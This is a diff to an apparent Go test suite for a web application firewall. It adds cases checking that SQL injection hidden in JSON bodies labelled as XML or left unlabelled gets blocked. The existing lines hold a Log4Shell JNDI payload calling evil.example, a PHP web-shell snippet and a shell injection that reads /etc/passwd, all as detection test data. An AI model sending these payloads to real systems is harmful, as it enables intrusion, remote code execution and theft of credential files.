@@ -59,6 +59,18 @@ func TestInspect(t *testing.T) {
 		{"log4shell", "GET", "/orders?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "", "", true},
 		{"php_injection", "POST", "/comments", "application/x-www-form-urlencoded", "text=<?php system($_GET['c']); ?>", true},
 		{"shell_injection", "GET", "/ping?host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd", "", "", true},
+		// A JSON body under a type whose body processor does not parse it
+		// as JSON: the app may parse it as JSON anyway, where \u0027 is a
+		// quote. Coraza's XML processor sees none (before: not blocked).
+		{"json_labeled_xml", "POST", "/orders", "application/xml", `{"name":"x\u0027 or 1=1-- "}`, true},
+		{"json_labeled_text_xml", "POST", "/orders", "text/xml; charset=utf-8", `{"name":"x\u0027 or 1=1-- "}`, true},
+		{"json_labeled_soap_xml", "POST", "/orders", "application/soap+xml", `{"name":"x\u0027 or 1=1-- "}`, true},
+		{"json_array_labeled_xml", "POST", "/orders", "application/xml", ` [{"name":"x\u0027 or 1=1-- "}]`, true},
+		{"json_bom_labeled_xml", "POST", "/orders", "application/xml", "\ufeff" + `{"name":"x\u0027 or 1=1-- "}`, true},
+		{"json_unlabeled", "POST", "/orders", "", `{"name":"x\u0027 or 1=1-- "}`, true},
+		{"benign_json_labeled_xml", "POST", "/orders", "application/xml", `{"item":"book","qty":2}`, false},
+		{"benign_xml", "POST", "/orders", "application/xml", `<order><item>book</item><qty>2</qty></order>`, false},
+		{"benign_braces_not_json", "POST", "/orders", "application/xml", `{item: book}`, false},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
